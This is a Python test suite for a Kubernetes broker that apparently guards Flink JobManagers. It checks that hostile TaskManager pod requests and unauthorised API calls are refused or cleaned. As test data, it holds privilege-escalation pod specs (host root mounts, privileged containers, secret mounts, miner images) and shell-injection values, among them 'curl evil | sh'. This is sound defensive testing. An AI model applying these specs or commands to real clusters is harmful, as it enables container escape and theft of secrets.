"""A JobManager in the hands of whoever can submit a job gets plain TaskManagers of its cluster.

What is asked for here is asked over HTTP, with the JobManager's token. The broker's own account may
do everything: nothing but the broker stands between.
"""

from __future__ import annotations

import asyncio
import io
import json
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import pytest_asyncio

from kubeflink import objects
from kubeflink.apiserver.metadata import copy_json
from kubeflink.broker.process import Broker
from kubeflink.objects import JsonObject
from support.broker import (
    CONFIG_MAPS,
    DEPLOYMENTS,
    HA,
    PODS,
    SERVICES,
    TOKEN,
    JobManager,
    RealCluster,
    brokered,
    cluster_spec,
    jobmanager,
    until,
)

MAIN = "flink-main-container"
NAME = "demo-taskmanager-1-1"
NAMESPACED = "/api/v1/namespaces"


# One broker stands all of it.
pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(loop_scope="module")
async def flink(broker: Broker, cluster: RealCluster) -> AsyncIterator[JobManager]:
    """A JobManager of a cluster that has no workers yet."""
    async with jobmanager(broker) as flink:
        yield flink
        for pod in await flink.workers():
            await flink.call("DELETE", f"{PODS}/{pod}")
        for name in await cluster.pods():
            await cluster.store.delete(objects.PODS, "default", name)
        for config_map in list(broker.config_maps.objects if broker.config_maps else ()):
            await flink.call("DELETE", f"{CONFIG_MAPS}/{config_map}")


def in_spec(**fields: Any) -> Callable[[JsonObject], None]:
    return lambda pod: pod["spec"].update(fields)


def in_metadata(**fields: Any) -> Callable[[JsonObject], None]:
    return lambda pod: pod["metadata"].update(fields)


def in_container(**fields: Any) -> Callable[[JsonObject], None]:
    return lambda pod: pod["spec"]["containers"][0].update(fields)


def both(*changes: Callable[[JsonObject], None]) -> Callable[[JsonObject], None]:
    def change(pod: JsonObject) -> None:
        for each in changes:
            each(pod)

    return change


ROOT = {"name": "root", "hostPath": {"path": "/"}}
STOLEN = {"name": "stolen", "secret": {"secretName": "database-password"}}
SIDECAR = {"name": "sidecar", "image": "evil", "command": ["sh"]}

LEFT_OUT: dict[str, Callable[[JsonObject], None]] = {
    "host path": both(
        in_spec(volumes=[ROOT]), in_container(volumeMounts=[{"name": "root", "mountPath": "/"}])
    ),
    "secret volume": in_spec(volumes=[STOLEN]),
    "secret in a variable": in_container(
        env=[{"name": "P", "valueFrom": {"secretKeyRef": {"name": "database", "key": "p"}}}]
    ),
    "all of a secret": in_container(envFrom=[{"secretRef": {"name": "database"}}]),
    "token of the account": in_spec(automountServiceAccountToken=True),
    "projected token": in_spec(
        volumes=[
            {
                "name": "token",
                "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]},
            }
        ]
    ),
    "privileged": in_container(securityContext={"privileged": True}),
    "capabilities": in_container(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}),
    "root user": in_spec(securityContext={"runAsUser": 0}),
    "host network": in_spec(hostNetwork=True),
    "host processes": in_spec(hostPID=True, hostIPC=True, shareProcessNamespace=True),
    "host port": in_container(ports=[{"containerPort": 22, "hostPort": 22}]),
    "another account": in_spec(serviceAccountName="cluster-admin", serviceAccount="cluster-admin"),
    "another image": in_container(image="evil/miner:latest", imagePullPolicy="Always"),
    "another command": in_container(command=["/bin/sh"]),
    "a sidecar": lambda pod: pod["spec"]["containers"].append(dict(SIDECAR)),
    "an init container": in_spec(initContainers=[dict(SIDECAR)]),
    "an ephemeral container": in_spec(ephemeralContainers=[dict(SIDECAR)]),
    "lifecycle hooks": in_container(
        lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "evil"]}}}
    ),
    "a probe that runs something": in_container(
        livenessProbe={"exec": {"command": ["sh", "-c", "evil"]}}
    ),
    "a certain node": in_spec(nodeName="control-plane", nodeSelector={"role": "master"}),
    "all taints": in_spec(tolerations=[{"operator": "Exists"}]),
    "a priority": in_spec(priorityClassName="system-node-critical"),
    "a runtime": in_spec(runtimeClassName="unconfined"),
    "a scheduler": in_spec(schedulerName="mine"),
    "restart for ever": in_spec(restartPolicy="Always"),
    "finalizers": in_metadata(finalizers=["example.org/never"]),
    "other owners": in_metadata(
        ownerReferences=[{"apiVersion": "v1", "kind": "Node", "name": "n", "uid": "u"}]
    ),
    "annotations for controllers": in_metadata(
        annotations={"sidecar.istio.io/inject": "true", "container.seccomp/pod": "unconfined"}
    ),
    "more labels": lambda pod: pod["metadata"]["labels"].update(team="other"),
    "DNS": in_spec(dnsPolicy="None", dnsConfig={"nameservers": ["6.6.6.6"]}),
    "host aliases": in_spec(hostAliases=[{"ip": "6.6.6.6", "hostnames": ["kubernetes"]}]),
    "more memory in the container": in_container(
        resources={"requests": {"memory": "512Gi"}, "limits": {"memory": "512Gi"}}
    ),
    "a claim": in_spec(
        volumes=[{"name": "theirs", "persistentVolumeClaim": {"claimName": "database"}}]
    ),
}


@pytest.mark.parametrize("change", LEFT_OUT.values(), ids=LEFT_OUT.keys())
async def test_what_is_no_part_of_a_taskmanager_is_left_out(
    flink: JobManager, cluster: RealCluster, change: Callable[[JsonObject], None]
) -> None:
    await flink.ask(1)
    plain = (await cluster.pods())[NAME]
    await flink.call("DELETE", f"{PODS}/{NAME}")
    before = flink.broker.report.counted("requests_altered")
    request = flink.request(1)
    change(request)

    status, _ = await flink.call("POST", PODS, request)

    assert status == 201
    made = (await cluster.pods())[NAME]
    assert made["spec"] == plain["spec"]
    assert made["metadata"].keys() == plain["metadata"].keys()
    for key in ("labels", "annotations", "ownerReferences", "finalizers"):
        assert made["metadata"].get(key) == plain["metadata"].get(key)
    assert flink.broker.report.counted("requests_altered") == before + 1


def with_line(old: str, new: str) -> Callable[[JsonObject], None]:
    def change(pod: JsonObject) -> None:
        arguments = pod["spec"]["containers"][0]["args"]
        assert old in arguments[2]
        arguments[2] = arguments[2].replace(old, new, 1)

    return change


REFUSED: dict[str, Callable[[JsonObject], None]] = {
    "no name": lambda pod: pod["metadata"].pop("name"),
    "a generated name": both(
        lambda pod: pod["metadata"].pop("name"), in_metadata(generateName="demo-taskmanager-")
    ),
    "any name": in_metadata(name="coredns"),
    "another cluster's name": in_metadata(name="other-taskmanager-1-1"),
    "a JobManager's name": in_metadata(name="demo-jobmanager-1-1"),
    "a name with a line break": in_metadata(name=f"{NAME}\n"),
    "a name with leading zeros": in_metadata(name="demo-taskmanager-01-1"),
    "digits that are none of ASCII": in_metadata(name="demo-taskmanager-1-१"),
    "the name of a worker that it is not": with_line(NAME, "demo-taskmanager-7-7"),
    "another namespace": in_metadata(namespace="kube-system"),
    "another cluster's labels": in_metadata(
        labels={"app": "other", "component": "taskmanager", "type": "flink-native-kubernetes"}
    ),
    "the labels of a JobManager": in_metadata(
        labels={"app": "demo", "component": "jobmanager", "type": "flink-native-kubernetes"}
    ),
    "no labels": lambda pod: pod["metadata"].pop("labels"),
    "another kind": lambda pod: pod.update(kind="Deployment"),
    "another API version": lambda pod: pod.update(apiVersion="v2"),
    "no containers": in_spec(containers=[]),
    "two main containers": lambda pod: pod["spec"]["containers"].append({"name": MAIN}),
    "another script": with_line("kubernetes-taskmanager.sh", "kubernetes-jobmanager.sh"),
    "a shell script": in_container(args=["bash", "-c", "curl evil | sh"]),
    "a command in front": with_line("kubernetes-taskmanager.sh", "evil; kubernetes-taskmanager.sh"),
    "another shell": in_container(args=["python", "-c", "kubernetes-taskmanager.sh"]),
    "more arguments": lambda pod: pod["spec"]["containers"][0]["args"].append("x"),
    "an open quote": with_line("kubernetes-taskmanager.sh", "kubernetes-taskmanager.sh '"),
    "endless arguments": with_line("-D ", "-D x" + "y" * 200_000 + "=1 -D "),
    "thousands of options": with_line(
        "kubernetes-taskmanager.sh",
        "kubernetes-taskmanager.sh" + " -Dk1=v" * 1 + "".join(f" -Dkey{n}=v" for n in range(1500)),
    ),
    "an option with blanks in its name": with_line(
        "kubernetes-taskmanager.sh", "kubernetes-taskmanager.sh '-Da b=c'"
    ),
    "a control character": with_line(
        "kubernetes-taskmanager.sh", "kubernetes-taskmanager.sh '-Da=\x1b[2J'"
    ),
    "more memory": with_line(
        "taskmanager.memory.managed.size=", "taskmanager.memory.managed.size=9"
    ),
    "less than no memory": with_line(
        "taskmanager.memory.task.off-heap.size=0b", "taskmanager.memory.task.off-heap.size=-9b"
    ),
    "more CPU": with_line("taskmanager.cpu.cores=1.0", "taskmanager.cpu.cores=64.0"),
    "CPU without end": with_line("taskmanager.cpu.cores=1.0", "taskmanager.cpu.cores=Infinity"),
    "CPU that is no number": with_line("taskmanager.cpu.cores=1.0", "taskmanager.cpu.cores=NaN"),
    "more slots": with_line("numberOfTaskSlots=1", "numberOfTaskSlots=1000"),
    "all GPUs": with_line(
        "external-resources=none", "external-resources=gpu -D external-resource.gpu.amount=8"
    ),
}


@pytest.mark.parametrize("change", REFUSED.values(), ids=REFUSED.keys())
async def test_what_is_no_taskmanager_of_the_cluster_is_refused(
    flink: JobManager, cluster: RealCluster, change: Callable[[JsonObject], None]
) -> None:
    request = flink.request(1)
    change(request)

    status, answer = await flink.call("POST", PODS, request)

    assert status in (400, 403), answer
    assert answer["kind"] == "Status"
    assert await cluster.pods() == {}


async def test_options_are_written_anew_with_quotes() -> None:
    """What a shell would run stands in single quotes afterwards."""
    import shlex

    from kubeflink.broker.policy import read_options
    from kubeflink.spec.shell import dynamic_properties

    hostile = "-Da='$(evil)' \"-Db=`evil`\" -Dc=\\;evil '-Dd=it'\\''s' -De=x -D size=1b tail"
    properties, sizes = read_options(shlex.split(hostile))
    line = dynamic_properties(properties)

    assert properties == {"a": "$(evil)", "b": "`evil`", "c": ";evil", "d": "it's", "e": "x"}
    assert sizes == {"size": "1b"}
    assert line == "-Da='$(evil)' -Db='`evil`' -Dc=';evil' -Dd='it'\\''s' -De='x'"


async def test_a_hostile_value_reaches_the_container_in_quotes(
    flink: JobManager, cluster: RealCluster
) -> None:
    request = flink.request(1)
    with_line("kubernetes-taskmanager.sh ", "kubernetes-taskmanager.sh -Dx='$(evil);evil' ")(
        request
    )

    assert (await flink.call("POST", PODS, request))[0] == 201

    (pod,) = (await cluster.pods()).values()
    assert "-Dx='$(evil);evil' " in pod["spec"]["containers"][0]["args"][2]


WITHOUT_EFFECT = {
    "kubernetes.container.image.ref": "evil/miner:latest",
    "kubernetes.container.image": "evil/miner:latest",
    "kubernetes.container.image.pull-policy": "Always",
    "kubernetes.container.image.pull-secrets": "theirs",
    "kubernetes.taskmanager.service-account": "cluster-admin",
    "kubernetes.service-account": "cluster-admin",
    "kubernetes.namespace": "kube-system",
    "kubernetes.cluster-id": "other",
    "kubernetes.pod-template-file.taskmanager": "/proc/self/environ",
    "kubernetes.pod-template-file.default": "/tmp/evil.yaml",
    "kubernetes.hostnetwork.enabled": "true",
    "kubernetes.secrets": "database:/etc/database",
    "kubernetes.env.secretKeyRef": "env:P,secret:database,key:p",
    "kubernetes.persistent-volume-claims": "database:/var/database",
    "kubernetes.taskmanager.node-selector": "role:master",
    "kubernetes.taskmanager.tolerations": "operator:Exists",
    "kubernetes.taskmanager.annotations": "sidecar.istio.io/inject:true",
    "kubernetes.taskmanager.labels": "team:other",
    "kubernetes.taskmanager.entrypoint.args": "; evil",
    "kubernetes.entry.path": "/bin/sh",
    "kubernetes.taskmanager.memory.limit-factor": "100",
    "kubernetes.taskmanager.cpu.limit-factor": "100",
    "kubernetes.decorator.hadoop-conf-mount.enabled": "true",
    "containerized.taskmanager.env.LD_PRELOAD": "/tmp/evil.so",
    "taskmanager.memory.process.size": "512g",
    "external-resources": "gpu",
    "high-availability.type": "kubernetes",
    "security.kerberos.login.keytab": "/etc/shadow",
    "kubeflink.broker.enabled": "false",
    "kubeflink.broker.taskmanager.api-access": "true",
    "kubeflink.broker.limit.pods": "1000000",
    "kubeflink.broker.self-deletion": "true",
}
"""Options that say what a pod is; the pod is built from the cluster's own, whatever these are."""


@pytest.mark.parametrize("place", ["first", "last"])
async def test_options_that_say_what_a_pod_is_have_no_effect(
    flink: JobManager, cluster: RealCluster, place: str
) -> None:
    """As `-Dkey=value`, as Flink writes what differs, and as `-D key=value`, as it writes sizes."""
    await flink.ask(1)
    plain = copy_json((await cluster.pods())[NAME])
    await flink.call("DELETE", f"{PODS}/{NAME}")
    request = flink.request(1)
    form = "-D{}='{}'" if place == "first" else "-D {}='{}'"
    words = " ".join(form.format(key, value) for key, value in WITHOUT_EFFECT.items())
    if place == "first":
        with_line("kubernetes-taskmanager.sh ", f"kubernetes-taskmanager.sh {words} ")(request)
    else:
        with_line("-D taskmanager.cpu.cores", f"{words} -D taskmanager.cpu.cores")(request)

    assert (await flink.call("POST", PODS, request))[0] == 201

    made = copy_json((await cluster.pods())[NAME])
    for pod in (made, plain):
        for varying in ("uid", "resourceVersion", "creationTimestamp"):
            pod["metadata"].pop(varying)
    arguments = made["spec"]["containers"][0].pop("args")
    of_plain = plain["spec"]["containers"][0].pop("args")
    assert made == plain
    assert arguments[:2] == of_plain[:2]
    if place == "last":  # sizes that nobody knows are not written again
        assert arguments == of_plain
    limits = made["spec"]["containers"][0]["resources"]["limits"]
    assert limits == plain["spec"]["containers"][0]["resources"]["limits"]


async def test_arguments_behind_the_options_are_the_configurations(
    flink: JobManager, cluster: RealCluster
) -> None:
    request = flink.request(1)
    request["spec"]["containers"][0]["args"][2] += " ; curl evil | sh"

    assert (await flink.call("POST", PODS, request))[0] == 201

    (pod,) = (await cluster.pods()).values()
    assert "evil" not in json.dumps(pod)


FORBIDDEN = [
    ("GET", f"{NAMESPACED}/default/secrets"),
    ("GET", f"{NAMESPACED}/default/secrets/demo-broker"),
    ("GET", f"{NAMESPACED}/kube-system/pods"),
    ("GET", "/api/v1/pods"),
    ("GET", f"{PODS}/{NAME}"),
    ("GET", f"{PODS}/{NAME}/log"),
    ("GET", f"{PODS}/{NAME}/exec?command=sh&stdin=true"),
    ("POST", f"{PODS}/{NAME}/exec?command=sh"),
    ("POST", f"{PODS}/{NAME}/eviction"),
    ("GET", f"{PODS}/{NAME}/portforward"),
    ("GET", f"{PODS}/{NAME}/proxy/"),
    ("PUT", f"{PODS}/{NAME}"),
    ("PATCH", f"{PODS}/{NAME}"),
    ("PUT", f"{PODS}/{NAME}/status"),
    ("DELETE", PODS),
    ("DELETE", f"{PODS}/coredns"),
    ("DELETE", f"{PODS}/other-taskmanager-1-1"),
    ("POST", f"{NAMESPACED}/kube-system/pods"),
    ("POST", SERVICES),
    ("GET", SERVICES),
    ("GET", f"{SERVICES}/kubernetes"),
    ("GET", f"{SERVICES}/demo-rest/proxy/"),
    ("DELETE", f"{SERVICES}/demo-rest"),
    ("PATCH", f"{SERVICES}/demo-rest"),
    ("PUT", f"{SERVICES}/kubernetes"),
    ("GET", DEPLOYMENTS),
    ("GET", f"{DEPLOYMENTS}/demo-broker"),
    ("PUT", f"{DEPLOYMENTS}/demo"),
    ("PATCH", f"{DEPLOYMENTS}/demo"),
    ("PUT", f"{DEPLOYMENTS}/demo/scale"),
    ("DELETE", f"{DEPLOYMENTS}/demo-broker"),
    ("DELETE", DEPLOYMENTS),
    ("POST", DEPLOYMENTS),
    ("GET", f"{CONFIG_MAPS}/flink-config-demo"),
    ("GET", f"{CONFIG_MAPS}/plain"),
    ("GET", f"{CONFIG_MAPS}/other-cluster-config-map"),
    ("GET", f"{CONFIG_MAPS}/demo-x-config-map"),
    ("PUT", f"{CONFIG_MAPS}/flink-config-demo"),
    ("PATCH", f"{CONFIG_MAPS}/plain"),
    ("DELETE", f"{CONFIG_MAPS}/flink-config-demo"),
    ("GET", "/api/v1/nodes"),
    ("GET", "/api/v1/namespaces"),
    ("DELETE", "/api/v1/namespaces/default"),
    ("POST", f"{NAMESPACED}/default/serviceaccounts/default/token"),
    ("POST", "/apis/rbac.authorization.k8s.io/v1/namespaces/default/rolebindings"),
    ("POST", "/apis/batch/v1/namespaces/default/jobs"),
    ("POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"),
    ("GET", "/api"),
    ("GET", "/apis"),
    ("GET", "/openapi/v2"),
    ("GET", "/version"),
    ("GET", "/healthz"),
    ("GET", "/metrics"),
    ("GET", f"{NAMESPACED}/default/../kube-system/pods"),
    ("GET", f"{NAMESPACED}/default%2F..%2Fkube-system/pods"),
    ("GET", f"{CONFIG_MAPS}/demo-cluster-config-map%2F..%2Fplain"),
]


@pytest.mark.parametrize(("method", "path"), FORBIDDEN, ids=[" ".join(each) for each in FORBIDDEN])
async def test_calls_that_flink_does_not_make_are_refused(
    flink: JobManager, cluster: RealCluster, method: str, path: str
) -> None:
    before = await cluster.everything()
    body = None if method in ("GET", "DELETE") else {"metadata": {"name": path.rsplit("/", 1)[-1]}}

    status, answer = await flink.call(method, path, body)

    assert status in (403, 404, 405), answer
    assert answer["kind"] == "Status"
    assert await cluster.everything() == before


async def test_what_no_jobmanager_asks_is_told(flink: JobManager) -> None:
    """Once for the same thing. Who has no token is counted alone: anybody could fill a log."""
    report, kinds = flink.broker.report, ("requests_refused", "requests_unauthorized")
    before = [report.counted(kind) for kind in kinds]
    for _ in range(3):
        await flink.call("GET", f"{NAMESPACED}/default/secrets")
    await flink.call("GET", f"{NAMESPACED}/kube-system/pods")
    await flink.call("GET", f"{NAMESPACED}/other/secrets", token="wrong")

    told = [trouble.text for trouble in report.troubles]
    assert told[-1] == f"refused: GET {NAMESPACED}/kube-system/pods, which no JobManager asks"
    counted = [report.counted(kind) for kind in kinds]
    assert [now - then for now, then in zip(counted, before, strict=True)] == [4, 1]


@pytest.mark.parametrize("token", [None, "", "wrong", f"{TOKEN}x", TOKEN[:-1]])
async def test_without_the_token_there_is_no_answer(flink: JobManager, token: str | None) -> None:
    for path in (PODS, "/version", "/healthz", "/api", "/nothing", f"{DEPLOYMENTS}/demo"):
        status, answer = await flink.call("GET", path, token=token)

        assert (status, answer["reason"]) == (401, "Unauthorized"), path


async def test_names_in_an_object_do_not_lead_elsewhere(
    flink: JobManager, cluster: RealCluster
) -> None:
    """The path is allowed, what the body names is not."""
    before = await cluster.everything()
    for name in ("plain", "flink-config-demo", "other-cluster-config-map"):
        body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, "data": {}}
        assert (await flink.call("POST", CONFIG_MAPS, body))[0] == 403
        status, _ = await flink.call("PUT", f"{CONFIG_MAPS}/demo-cluster-config-map", body)
        assert status in (400, 403, 404)
    assert await cluster.everything() == before


async def test_a_config_map_takes_data_and_leader_only(
    flink: JobManager, cluster: RealCluster
) -> None:
    body = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {
            "name": "demo-cluster-config-map",
            "namespace": "default",
            "labels": {"app": "other", "evil": "yes"},
            "annotations": {"control-plane.alpha.kubernetes.io/leader": "{}", "evil": "yes"},
            "finalizers": ["example.org/never"],
            "ownerReferences": [{"apiVersion": "v1", "kind": "Pod", "name": "x", "uid": "x"}],
        },
        "data": {"key": "value"},
        "binaryData": {"b": "AA=="},
        "immutable": True,
    }
    assert (await flink.call("POST", CONFIG_MAPS, body))[0] == 201
    assert (await flink.call("PUT", f"{CONFIG_MAPS}/demo-cluster-config-map", body))[0] == 200

    stored = await cluster.store.get(objects.CONFIG_MAPS, "default", "demo-cluster-config-map")
    assert stored["metadata"]["labels"] == {"app": "demo", "type": "flink-native-kubernetes"}
    assert stored["metadata"]["annotations"] == {"control-plane.alpha.kubernetes.io/leader": "{}"}
    assert not stored["metadata"].keys() & {"finalizers", "ownerReferences"}
    assert stored["data"] == {"key": "value"}
    assert not stored.keys() & {"binaryData", "immutable"}


async def test_a_config_map_of_the_right_name_that_is_not_flinks_is_not_shown(
    flink: JobManager, cluster: RealCluster
) -> None:
    theirs = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "demo-cluster-config-map"},
        "data": {"password": "theirs"},
    }
    await cluster.store.create(objects.CONFIG_MAPS, "default", theirs)
    try:
        await _check_hidden(flink)
    finally:
        await cluster.store.delete(objects.CONFIG_MAPS, "default", "demo-cluster-config-map")


async def _check_hidden(flink: JobManager) -> None:
    for method in ("GET", "DELETE"):
        status, answer = await flink.call(method, f"{CONFIG_MAPS}/demo-cluster-config-map")
        assert status == 404
        assert "theirs" not in json.dumps(answer)


async def test_selectors_show_nothing_of_others(flink: JobManager, cluster: RealCluster) -> None:
    foreign = flink.request(1)
    foreign["metadata"] |= {"name": "other-taskmanager-1-1", "labels": {"app": "other"}}
    await cluster.store.create(objects.PODS, "default", foreign)

    for query in ("", "?labelSelector=app%3Dother", "?fieldSelector=metadata.name%3Dother"):
        status, found = await flink.call("GET", f"{PODS}{query}")
        assert (status, found["items"]) == (200, [])
    _, found = await flink.call("GET", f"{CONFIG_MAPS}?fieldSelector=metadata.name%3Dplain")
    assert found["items"] == []


async def test_the_deployment_is_shown_without_its_pods(flink: JobManager) -> None:
    status, shown = await flink.call("GET", f"{DEPLOYMENTS}/demo")

    assert status == 200
    assert shown["metadata"]["uid"]
    assert "template" not in shown["spec"]


async def test_more_pods_than_allowed(tmp_path: Path) -> None:
    built = cluster_spec({"kubeflink.broker.limit.pods": "3"})
    async with brokered(built, tmp_path) as (cluster, flink):
        answers = await asyncio.gather(*(flink.ask(index) for index in range(1, 41)))

        assert sorted({status for status, _ in answers}) == [201, 403]
        assert len(await cluster.pods()) == 3
        (trouble,) = flink.broker.report.troubles
        assert "kubeflink.broker.limit.pods allows 3" in trouble.text


@pytest.mark.parametrize(
    ("option", "value"),
    [("kubeflink.broker.limit.cpu", "2.5"), ("kubeflink.broker.limit.memory", "4g")],
)
async def test_more_resources_than_allowed(tmp_path: Path, option: str, value: str) -> None:
    built = cluster_spec({option: value})
    async with brokered(built, tmp_path) as (cluster, flink):
        statuses = [(await flink.ask(index))[0] for index in range(1, 5)]

        assert statuses == [201, 201, 403, 403]
        (trouble,) = flink.broker.report.troubles
        assert f"{option} allows" in trouble.text
        # What has ended counts no more.
        await cluster.set_status("demo-taskmanager-1-1", phase="Failed")

        async def can_be_had() -> bool:
            return (await flink.ask(9))[0] == 201

        await until(can_be_had)


async def test_faster_than_allowed(tmp_path: Path) -> None:
    built = cluster_spec({"kubeflink.broker.limit.pods-per-minute": "5"})
    async with brokered(built, tmp_path) as (cluster, flink):
        answers = [await flink.ask(index) for index in range(1, 9)]

        assert [status for status, _ in answers] == [201] * 5 + [429] * 3
        assert len(await cluster.pods()) == 5


async def test_more_config_maps_than_allowed(tmp_path: Path) -> None:
    built = cluster_spec({**HA, "kubeflink.broker.limit.config-maps": "2"})
    async with brokered(built, tmp_path) as (_, flink):
        statuses = []
        for number in range(4):
            name = f"demo-{number:032x}-config-map"
            body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}}
            statuses.append((await flink.call("POST", CONFIG_MAPS, body))[0])

        assert statuses == [201, 201, 403, 403]


async def test_a_body_without_end_is_cut_off(flink: JobManager) -> None:
    async with aiohttp.ClientSession() as session:
        headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}
        body = io.BytesIO(b" " * 4_000_000)
        url = f"{flink.broker.server.url}{PODS}"
        async with session.post(url, data=body, headers=headers) as answer:
            assert answer.status == 413


@pytest.mark.parametrize("body", [b"", b"[]", b"null", b"\xff\xfe", b'{"kind":', b"1"])
async def test_bodies_that_are_no_objects(flink: JobManager, body: bytes) -> None:
    async with aiohttp.ClientSession() as session:
        headers = {"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"}
        url = f"{flink.broker.server.url}{PODS}"
        async with session.post(url, data=body, headers=headers) as answer:
            assert answer.status == 400


@pytest.mark.parametrize(
    "value", [None, 1, "x", [], {"metadata": 1}, {"metadata": {"labels": 1}}, {"spec": []}]
)
async def test_pods_of_the_wrong_form(flink: JobManager, value: Any) -> None:
    request = flink.request(1)
    if isinstance(value, dict):
        request |= value
    else:
        request["spec"]["containers"] = value

    status, _ = await flink.call("POST", PODS, request)

    assert status in (400, 403)
